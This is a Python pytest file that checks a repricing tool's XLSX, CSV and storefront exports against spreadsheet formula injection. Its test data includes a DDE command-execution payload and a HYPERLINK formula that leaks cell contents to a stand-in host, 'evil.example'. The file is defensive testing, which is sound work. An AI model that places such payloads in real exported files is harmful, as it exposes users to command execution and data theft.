"""No text we export can run as a spreadsheet formula: reports (XLSX, CSV) and the
file storefront, checked by reading the files back (openpyxl, csv)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, update

from repricer.cells import FORMULA_STARTS, safe_text, unsafe_text
from repricer.config import Settings
from repricer.db.models import Product
from repricer.reports import build_report, write_csv, write_xlsx
from repricer.storefront.file import FileConnector
from tests.reports.factory import Change, add_run
from tests.storefront.seed import add_changes, add_products
from tests.storefront.seed import add_run as add_push_run

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "'=already quoted", ""])
def test_safe_text_round_trips(text: str) -> None:
    quoted = safe_text(text)
    assert not quoted.startswith(FORMULA_STARTS)
    assert unsafe_text(quoted) == text or text.startswith("'")


def _hostile_run(engine: Engine) -> int:
    changes = [
        Change(sku, 100000, 90000, "approved", cost=70000, explanation=sku, rule=sku)
        for sku in HOSTILE
    ]
    run_id = add_run(engine, changes)
    with engine.begin() as conn:
        conn.execute(update(Product).values(title="=1+2", brand="@evil", category="-x"))
    return run_id


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_report_has_no_formula_cells(engine: Engine, tmp_path: Path) -> None:
    path = write_xlsx(build_report(engine, _hostile_run(engine)), tmp_path / "r.xlsx")
    book = load_workbook(path)
    seen: list[Any] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                seen.append(cell.value)
    assert "'=cmd|' /C calc'!A0" in seen and "'=1+2" in seen
    changes = book["Changes"]
    header = [c.value for c in changes[1]]
    change = [r[header.index("Change")].value for r in changes.iter_rows(min_row=2)]
    assert all(isinstance(v, int | float) and v < 0 for v in change)  # numbers stay numbers


def test_csv_report_quotes_formula_text_but_not_numbers(engine: Engine, tmp_path: Path) -> None:
    path = write_csv(build_report(engine, _hostile_run(engine)), tmp_path / "r.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS) or _is_number(value), (column, value)
    assert {unsafe_text(r["sku"]) for r in rows} == set(HOSTILE)
    assert rows[0]["change"] == "-100.00" and rows[0]["title"] == "'=1+2"


def test_file_storefront_csv_is_formula_safe_and_reads_back(
    engine: Engine, settings_from: Any, tmp_path: Path
) -> None:
    settings: Settings = settings_from(
        f'[storefront]\nkind = "file"\n[storefront.file]\npath = "{tmp_path / "shop"}"\n'
    )
    add_products(engine, HOSTILE)
    add_changes(engine, add_push_run(engine), dict.fromkeys(HOSTILE, 12345))
    connector = FileConnector.from_settings(settings, engine)
    (path,) = connector.export()
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert set(connector.fetch_prices(HOSTILE)) == set(HOSTILE)
